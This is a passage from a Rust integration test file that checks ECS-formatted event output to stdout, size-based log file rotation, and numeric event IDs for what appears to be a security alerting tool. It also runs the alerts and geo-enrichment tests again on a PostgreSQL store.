            serde_json::from_str(&export.line("an ECS line on stdout", Duration::from_secs(30)))
                .unwrap();
        if is_test_event(&doc) {
            printed.push(doc);
        }
    }
    printed.sort_by_key(|e| e["event"]["sequence"].as_u64());
    strip_event_ids(&mut printed);
    assert_eq!(printed, expected);

    // The file, rotated by size: oldest backup first, then the current file.
    let mut files = vec![out.clone()];
    for i in 1..=20 {
        let p = PathBuf::from(format!("{}.{i}", out.display()));
        if p.exists() {
            files.insert(0, p);
        }
    }
    assert!(
        files.len() >= 3,
        "1500-byte files must have rotated: {files:?}"
    );
    let mut written = Vec::new();
    for f in &files {
        let size = std::fs::metadata(f).unwrap().len();
        assert!(size <= 1500, "{} is {size} bytes", f.display());
        written.extend(file_lines(f).into_iter().filter(|d| is_test_event(d)));
    }
    // Delivery order to a module is not part of the contract (a starved CI machine showed
    // the first event arriving last); every event written exactly once is.
    written.sort_by_key(|e| e["event"]["sequence"].as_u64());
    strip_event_ids(&mut written);
    assert_eq!(written, expected);

    drop(export);
    drop(sub);
    node.stop().await.unwrap();
}

/// Checks that every delivered document carries its store row id as `event.id` (a decimal
/// string, as ECS keywords are) and removes it, so the rest compares with `events --json`.
fn strip_event_ids(docs: &mut [Value]) {
    for doc in docs.iter_mut() {
        let id = doc["event"]
            .as_object_mut()
            .and_then(|ev| ev.remove("id"))
            .unwrap_or_else(|| panic!("no event.id in {doc}"));
        let id = id.as_str().unwrap_or_default();
        assert!(
            !id.is_empty() && id.bytes().all(|b| b.is_ascii_digit()),
            "event.id {id:?}"
        );
    }
}

// ---- the same tests on a PostgreSQL store (`common::on_postgres`: same body, a
// database of its own on this test binary's PostgreSQL server)

#[test]
fn alerts_module_sends_rules_to_webhooks_syslog_file_and_honeybee_on_postgres() {
    on_postgres(alerts_module_sends_rules_to_webhooks_syslog_file_and_honeybee);
}

#[test]
fn geo_module_enriches_public_sources_in_the_cli_on_postgres() {
    on_postgres(geo_module_enriches_public_sources_in_the_cli);
}
